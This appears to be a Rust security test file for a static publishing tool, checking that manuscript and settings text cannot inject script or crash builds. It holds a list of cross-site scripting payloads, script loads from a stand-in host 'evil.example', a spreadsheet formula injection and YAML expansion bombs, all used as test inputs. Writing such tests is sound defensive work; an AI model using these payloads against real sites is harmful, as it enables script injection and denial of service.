//! What an editor or a stranger types must not become script, hang or crash.

use ikidil::memo::Memo;
use ikidil::output::Output;
use ikidil::source::Snapshot;
use ikidil::{BuildOptions, build};
use proptest::prelude::*;
use scraper::Html;

use crate::harm::{command, commands};
use crate::sound::faults;

/// What attackers write, in many disguises.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style><p style=\"position:fixed;inset:0\">x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](<java\u{9}script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=alert(1)](a.svg){#fig-x alt=\"\\\" onload=alert(1) x=\\\"\"}",
    "[x]{lang=\"en\\\" onclick=alert(1)\"}",
    "## x {#a\"onclick=alert(1) .b\"onclick=alert(1)}",
    "``` \"onclick=alert(1)\n<script>alert(1)</script>\n```",
    "{{ config | safe }}{% for x in y %}{% raw %}{{ \"<script>alert(1)</script>\" }}",
    "#eval(\"1\") #import \"x.typ\": * $ sum $ \\u{0}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "[^<script>]: <script>alert(1)</script>",
    "[[<script>alert(1)</script>|<img src=x onerror=alert(1)>]]",
    "[@<script>alert(1)</script>, art. <script>alert(1)</script>]",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "\u{202e}<script>alert(1)</script>\u{0}",
];

/// Two languages on paper take their time; they are made of what the other formats are made of.
const FORMATS: &str =
    if cfg!(feature = "pdf") { "print, epub, docx" } else { "print, epub, docx, parallel" };

/// A text as YAML writes it in quotation marks.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a text is JSON")
}

/// A project with the text wherever people write something.
pub fn project(text: &str) -> Snapshot {
    let yaml = quoted(text);
    let both = format!("{{ tr: {yaml}, en: {yaml} }}");
    let chapter = |lang: &str| {
        format!(
            "---\ntitle: {yaml}\nsummary: {yaml}\nauthors: [{{ name: {yaml} }}]\nchanges: [{{ date: 2026-01-01, text: {yaml} }}]\nerrata: [{{ date: 2026-01-01, at: {yaml}, text: {yaml} }}]\n---\n\n{text}\n\n\
             ## {line}\n\n- {line}\n\n> [!note] {line}\n> {line}\n\n| {cell} | b |\n| --- | --- |\n| {cell} | {cell} |\n\n: {line}\n\n\
             ![{line}](a.svg){{#fig-{lang} alt={yaml}}}\n\nx[^1] [[t]] [@k, p. {line}]\n\n[^1]: {line}\n\n\
             ```chart {{#fig-c}}\ndata: data/d.csv\nkind: bar\nx: name\ny: count\ncaption: {yaml}\nalt: {yaml}\nsource: {yaml}\n```\n\n\
             ```compare {{#tbl-c}}\ndata: data/c.yaml\ncolumns: {{ tr: [{yaml}, b], en: [{yaml}, b] }}\ncaption: {yaml}\n```\n",
            line = text.replace('\n', " "),
            cell = text.replace('\n', " ").replace('|', "\\|"),
        )
    };
    Snapshot::from_texts([
        (
            "content/site.yaml",
            &*format!(
                "title: {both}\ndescription: {both}\nreport: {yaml}\nbase_url: https://example.org/\nraw_html: sanitise\n\
                 funder: {{ statement: {both}, disclaimer: {both}, emblem: {yaml} }}\n\
                 partners: [{{ name: {yaml}, role: {both}, url: {yaml} }}]\n"
            ),
        ),
        ("content/home.tr.md", &chapter("tr")),
        (
            "content/g/publication.yaml",
            &format!(
                "title: {both}\nslug: {{ tr: g, en: g }}\nsummary: {both}\nedition: {yaml}\nlicence: {yaml}\ndoi: {yaml}\nisbn: {yaml}\nsubtitle: {both}\nchanges: [{{ edition: {yaml}, date: 2026-01-01, text: {both} }}]\n\
                 authors: [{{ name: {yaml} }}]\nkeywords: {{ tr: [{yaml}], en: [{yaml}] }}\nformats: [{FORMATS}]\n"
            ),
        ),
        ("content/pages/p.tr.md", &chapter("tr")),
        ("content/news/2026-01-01-n.en.md", &chapter("en")),
        ("content/g/01-x.tr.md", &chapter("tr")),
        ("content/g/01-x.en.md", &chapter("en")),
        ("content/g/a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"/>"),
        ("content/g/data/d.csv", &format!("name,count\n\"{}\",1\n", text.replace('"', "\"\""))),
        ("content/g/data/c.yaml", &format!("- label: {both}\n  cells: [{both}, {both}]\n")),
        (
            "content/terms.yaml",
            &format!("- id: t\n  tr: {yaml}\n  en: {yaml}\n  def_tr: {yaml}\n  def_en: {yaml}\n"),
        ),
        (
            "content/references.yaml",
            &format!(
                "k:\n  type: report\n  title: {yaml}\n  author: {yaml}\n  date: 2020\n  url: {yaml}\n"
            ),
        ),
    ])
}

/// The site of a project, whatever is wrong with it.
pub fn site(snapshot: &Snapshot) -> Output {
    build(snapshot, &BuildOptions { thorough: true, ..BuildOptions::default() }, &Memo::default())
        .value
        .output
}

#[test]
fn commands_are_seen() {
    for html in [
        "<script>alert(1)</script>",
        "<script src=\"//evil.example/x.js\"></script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<p style=\"position:fixed\">x</p>",
        "<script type=\"application/ld+json\">{\"a\": </script>",
    ] {
        let html = Html::parse_document(html);
        assert_eq!(html.root_element().descendent_elements().filter_map(command).count(), 1);
    }
}

#[test]
fn no_page_carries_script_from_the_manuscript() {
    for attack in ATTACKS {
        let output = site(&project(attack));
        assert!(output.get("tr/g/index.html").is_some(), "{attack}: nothing was made");
        assert_eq!(commands(&output), Vec::<String>::new(), "{attack}");
        assert_eq!(faults(&output), Vec::<String>::new(), "{attack}");
    }
}

#[test]
fn drawings_of_the_project_are_shown_as_images_only() {
    let mut snapshot = project("x");
    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    snapshot.files.extend(Snapshot::from_texts([("content/g/a.svg", drawing)]).files);
    assert_eq!(commands(&site(&snapshot)), Vec::<String>::new());
}

/// Texts of a few megabytes that are far dearer than they look.
#[test]
fn bombs_are_only_texts() {
    let bomb = {
        let mut text = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
        for at in 1..12 {
            let before = format!("*a{}", at - 1);
            let list = [before.as_str(); 9].join(", ");
            text.push_str(&format!("a{at}: &a{at} [{list}]\n"));
        }
        text
    };
    let deep_yaml = format!("title: {}{}\n", "[".repeat(20_000), "]".repeat(20_000));
    let settings = [bomb.as_str(), deep_yaml.as_str()];
    for text in settings {
        for path in [
            "content/site.yaml",
            "content/g/publication.yaml",
            "content/terms.yaml",
            "content/references.yaml",
            "content/g/data/c.yaml",
        ] {
            let mut snapshot = project("x");
            snapshot.files.extend(Snapshot::from_texts([(path, text)]).files);
            let built = build(&snapshot, &BuildOptions::default(), &Memo::default());
            assert!(!built.diagnostics.is_empty(), "{path}: nobody is told");
        }
        let mut snapshot = project("x");
        let front = format!("---\n{text}---\n\nx\n");
        snapshot.files.extend(Snapshot::from_texts([("content/g/01-x.tr.md", &*front)]).files);
        let built = build(&snapshot, &BuildOptions::default(), &Memo::default());
        assert!(!built.diagnostics.is_empty(), "front matter: nobody is told");
    }
    let texts = [
        "> ".repeat(20_000),
        "- ".repeat(20_000),
        "*a **b ".repeat(50_000),
        "[".repeat(100_000),
        "![[".repeat(50_000),
        "`".repeat(200_000),
        "<a ".repeat(50_000),
        "<b>".repeat(20_000),
        "&".repeat(200_000),
        "[a](b) ".repeat(100_000),
        "|a".repeat(50_000) + "\n" + &"|-".repeat(50_000) + "\n",
        "[^1]".repeat(20_000) + "\n\n[^1]: [^1]\n",
        "x".repeat(3_000_000),
        "[[t|".repeat(50_000),
        "@sec-x ".repeat(50_000),
        "\u{301}".repeat(500_000),
    ];
    for text in texts {
        let mut snapshot = project("x");
        let text = format!("---\ntitle: Bomba\n---\n\n{text}\n");
        snapshot.files.extend(Snapshot::from_texts([("content/g/01-x.tr.md", &*text)]).files);
        let output = site(&snapshot);
        assert_eq!(commands(&output), Vec::<String>::new());
    }
}

/// Bits of syntax that meet in ways nobody thought of.
fn bits() -> impl Strategy<Value = String> {
    let bit = prop_oneof![
        prop::sample::select(ATTACKS).prop_map(str::to_owned),
        prop::sample::select(
            &[
                "\n",
                "\n\n",
                " ",
                "    ",
                "\t",
                "> ",
                "- ",
                "- [ ] ",
                "1. ",
                "# ",
                "## ",
                "|",
                "| --- |\n",
                ": ",
                "```",
                "```chart\n",
                "```compare\n",
                "---\n",
                "[",
                "]",
                "(",
                ")",
                "{#",
                "}",
                "@sec-",
                "[@",
                "[[",
                "]]",
                "[^1]",
                "[^1]: ",
                "*",
                "**",
                "_",
                "~~",
                "`",
                "<",
                ">",
                "<!--",
                "-->",
                "\\",
                "&",
                "İ",
                "ı",
                "ğ",
                "'de",
                "’",
                "\"",
                "\u{0}",
                "\u{feff}",
                "\r\n",
                "%",
                "5",
                "data: data/d.csv\n",
                "kind: bar\n",
                "{lang=en}",
                "[!note] ",
                "[!checklist]",
                "![",
                "a.svg",
                "$x$",
                "^",
                "~",
                "=",
                "+",
            ][..]
        )
        .prop_map(str::to_owned),
        "\\PC{0,6}",
    ];
    prop::collection::vec(bit, 1..24).prop_map(|bits| bits.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, max_shrink_iters: 200, ..ProptestConfig::default() })]

    #[test]
    fn no_text_breaks_the_program(text in bits()) {
        let output = site(&project(&text));
        prop_assert_eq!(commands(&output), Vec::<String>::new());
        prop_assert_eq!(faults(&output), Vec::<String>::new());
    }
}
